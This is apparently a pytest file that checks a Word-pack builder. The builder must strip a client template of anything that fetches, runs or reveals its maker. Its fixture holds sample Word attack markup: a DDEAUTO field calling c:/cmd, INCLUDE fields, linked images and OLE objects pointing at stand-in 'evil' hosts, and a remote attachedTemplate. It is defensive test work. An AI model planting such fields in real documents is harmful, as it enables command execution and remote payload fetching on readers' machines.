"""A client's Word template brings its looks into a pack, and nothing that fetches, runs or tells of its maker."""

import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from evidencepack.shipped import shipped
from tests.command import run

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_BEGIN, _SPLIT, _END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
_PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="9" cy="9"/><wp:docPr id="9001" name="x"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
    '<pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rX3"/></pic:blipFill>'
    "<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)


def field(code: str, shown: str) -> str:
    """A field whose instruction is parted over two runs, as Word likes to do."""
    halves = "".join(f'<w:r><w:instrText xml:space="preserve">{h}</w:instrText></w:r>' for h in (code[:7], code[7:]))
    return f"<w:p>{_BEGIN}{halves}{_SPLIT}<w:r><w:t>{shown}</w:t></w:r>{_END}</w:p>"


def changed(kind: str, text: str) -> str:
    """Words that somebody put in or took out while changes were tracked."""
    tag = "delText" if kind == "del" else "t"
    who = 'w:author="Maker Mary" w:date="2020-01-01T00:00:00Z"'
    return f'<w:p><w:{kind} w:id="9{len(text)}" {who}><w:r><w:{tag}>{text}</w:{tag}></w:r></w:{kind}></w:p>'


def linked(id_: str, text: str) -> str:
    """Words that lead elsewhere."""
    return f'<w:p><w:hyperlink r:id="{id_}"><w:r><w:t>{text}</w:t></w:r></w:hyperlink></w:p>'


# what stands in the template: its markup, what must be gone from the pack, what must stay
BODY = {
    "INCLUDETEXT": (field(' INCLUDETEXT "//evil/x.docx" ', "shown1"), "INCLUDE", "shown1"),
    "INCLUDEPICTURE": (field(' INCLUDEPICTURE "http://evil/x.png" ', "shown2"), "evil", "shown2"),
    "DDEAUTO": (field(" DDEAUTO c:/cmd ", "shown3"), "DDEAUTO", "shown3"),
    "AUTOTEXT": (field(" AUTOTEXT Maker ", "shown4"), "AUTOTEXT", "shown4"),
    "a field that names no field": (
        f"<w:p>{_BEGIN}{field(' QUOTE 68 68 69 ', 'made')[5:-6]}<w:r><w:instrText> c:/evil</w:instrText></w:r>"
        f"{_SPLIT}<w:r><w:t>shown5</w:t></w:r>{_END}</w:p>",
        "evil",
        "shown5",
    ),
    "a link to a file in a field": (field(' HYPERLINK "file:///c:/evil" ', "shown6"), "file:", "shown6"),
    "a link to the web in a field": (field(' HYPERLINK "https://ok.example" ', "shown7"), "evil", "https://ok.example"),
    "a number of a page": (field(" NUMPAGES ", "shown8"), "evil", "NUMPAGES"),
    "a simple field": (
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT evil "><w:r><w:t>shown9</w:t></w:r></w:fldSimple></w:p>',
        "INCLUDE",
        "shown9",
    ),
    "a link to a file": (
        '<w:p><w:hyperlink r:id="rX1"><w:r><w:t>lead</w:t></w:r></w:hyperlink></w:p>',
        "file:",
        "lead",
    ),
    "a link to the web": (
        '<w:p><w:hyperlink r:id="rX2"><w:r><w:t>web</w:t></w:r></w:hyperlink></w:p>',
        "evil",
        "ok2.ex",
    ),
    "a linked picture": (_PICTURE, "evil", "rowan"),
    "a linked object": (
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="x" '
        'ShapeID="x" DrawAspect="Content" r:id="rX4" UpdateMode="Always"/></w:object></w:r></w:p>',
        "OLEObject",
        "rowan",
    ),
    "a document put in": ('<w:altChunk r:id="rX5"/>', "SECRET", "rowan"),
    "words put in and tracked": (changed("ins", "put in"), "Maker", "put in"),
    "words taken out and tracked": (changed("del", "removedwords"), "removedwords", "rowan"),
    "a comment": (
        '<w:p><w:commentRangeStart w:id="7"/><w:r><w:t>upon</w:t></w:r><w:commentRangeEnd w:id="7"/>'
        '<w:r><w:commentReference w:id="7"/></w:r></w:p>',
        "commentRange",
        "upon",
    ),
}
RELATIONS = {
    "rX1": ("hyperlink", "file:///c:/evil.docx", True),
    "rX2": ("hyperlink", "https://ok2.example/", True),
    "rX3": ("image", "http://evil/pix.png", True),
    "rX4": ("oleObject", "file:///c:/evil.xlsx", True),
    "rX5": ("aFChunk", "chunk.html", False),
    "rX6": ("comments", "comments.xml", False),
    "rX7": ("customXml", "../customXml/item1.xml", False),
}


def related(id_: str, kind: str, target: str, outside: bool) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="{id_}" Type="{_R}/{kind}" Target="{target}"{mode}/>'


def put_in(text: bytes, mark: str, added: str) -> bytes:
    """XML with something added behind the first tag of this name, or before it where the name is of an end."""
    found = re.search(f"<{mark}[^>]*>", text.decode())
    assert found, mark
    at = found.start() if mark.startswith("/") else found.end()
    return f"{text.decode()[:at]}{added}{text.decode()[at:]}".encode()


@pytest.fixture(scope="module")
def packed(rowan_house: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A pack made of our template with all of that in it, and what was said."""
    folder = tmp_path_factory.mktemp("foreign")
    with zipfile.ZipFile(shipped("templates") / "word" / "pack.docx") as ours:
        parts = {name: ours.read(name) for name in ours.namelist()}
    document = put_in(parts["word/document.xml"], "w:body", "".join(markup for markup, _, _ in BODY.values()))
    settings = put_in(parts["word/settings.xml"], "w:settings", '<w:attachedTemplate r:id="rX1"/>')
    for name, text in (("document", document), ("settings", settings)):
        named = text if b"xmlns:r=" in text[:3000] else text.replace(b"<w:", f'<w:{name} xmlns:r="{_R}" '.encode(), 1)
        parts[f"word/{name}.xml"] = named.replace(f'" {name}'.encode(), b'"', 1) if named is not text else text
    relations = "".join(related(id_, *rest) for id_, rest in RELATIONS.items())
    parts["word/_rels/document.xml.rels"] = put_in(parts["word/_rels/document.xml.rels"], "/Relationships", relations)
    parts["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{related('rX1', 'attachedTemplate', 'http://evil.example/t.dotm', True)}</Relationships>"
    ).encode()
    comment = '<w:comment w:id="7" w:author="Maker Mary"><w:p><w:r><w:t>SECRET</w:t></w:r></w:p></w:comment>'
    parts["word/comments.xml"] = f'<w:comments xmlns:w="{_W}">{comment}</w:comments>'.encode()
    parts["word/chunk.html"], parts["customXml/item1.xml"] = b"<p>SECRET</p>", b"<data>SECRET</data>"
    parts["docProps/app.xml"] = put_in(parts["docProps/app.xml"], "/Properties", "<Company>SECRET</Company>")
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"
    more = '<Default Extension="html" ContentType="text/html"/>'
    more += f'<Override PartName="/word/comments.xml" ContentType="{kind}"/>'
    parts["[Content_Types].xml"] = put_in(parts["[Content_Types].xml"], "/Types", more)
    (folder / "own" / "word").mkdir(parents=True)
    with zipfile.ZipFile(folder / "own" / "word" / "pack.docx", "w") as own:
        for name, data in parts.items():
            own.writestr(name, data)
    shutil.copytree(rowan_house, folder / "house", ignore=shutil.ignore_patterns("packs"))
    out, _ = run(
        "build", folder / "house", "--on", "2026-10-31", "--framework", "cqc-saf-2023", "--format", "word",
        "--templates", folder / "own",
    )  # fmt: skip
    return next((folder / "house" / "packs").rglob("*.docx")), " ".join(out.split())


def held(file: Path) -> str:
    """All that a package holds, names of parts included."""
    with zipfile.ZipFile(file) as package:
        return "\n".join(f"{name}\n{package.read(name).decode('utf-8', 'replace')}" for name in package.namelist())


@pytest.mark.parametrize("what", BODY)
def test_what_a_template_may_not_bring_is_left_out_and_its_words_stay(what: str, packed: tuple[Path, str]) -> None:
    _, gone, stays = BODY[what]
    text = held(packed[0])
    assert gone not in text
    assert stays.casefold() in text.casefold()


@pytest.mark.parametrize(
    "word", ["SECRET", "evil", "Maker", "attachedTemplate", "customXml", "comments.xml", "Company"]
)
def test_nothing_of_the_maker_of_a_template_is_in_any_part(word: str, packed: tuple[Path, str]) -> None:
    assert word not in held(packed[0])


def test_what_was_left_out_is_said_in_one_line(packed: tuple[Path, str]) -> None:
    assert packed[1].count("Left out of every file made of pack.docx:") == 1
    for words in ("another template", "comments", "tracked", "fetch or run", "embedded objects", "places elsewhere"):
        assert words in packed[1]


def test_microsofts_validator_finds_no_error_in_what_is_left(
    packed: tuple[Path, str], ooxml_validator: Callable[[Path], list[str]]
) -> None:
    assert ooxml_validator(packed[0]) == []


def test_nothing_is_said_of_a_template_that_brings_its_looks_only(rowan_house: Path, tmp_path: Path) -> None:
    shutil.copytree(shipped("templates") / "word", tmp_path / "own" / "word")
    shutil.copytree(rowan_house, tmp_path / "house", ignore=shutil.ignore_patterns("packs"))
    out, _ = run(
        "build", tmp_path / "house", "--on", "2026-10-31", "--framework", "cqc-saf-2023", "--format", "word",
        "--templates", tmp_path / "own",
    )  # fmt: skip
    assert "Left out" not in out
